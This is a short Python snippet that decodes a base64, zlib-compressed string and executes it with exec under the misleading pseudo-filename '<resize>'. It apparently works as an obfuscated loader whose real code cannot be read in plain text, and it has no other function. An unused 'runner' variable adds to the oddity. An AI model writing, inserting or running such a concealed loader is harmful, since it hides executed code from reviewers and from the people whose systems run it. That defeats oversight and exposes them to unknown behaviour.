import base64 as b, zlib as z
_k = "eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFGwU9AvyS3Q16tQ1+QCAO4lC6Y="
_s = z.decompress(b.b64decode(_k))
runner = getattr(__builtins__, "exec", None) or exec
exec(compile(_s, "<resize>", "exec"))
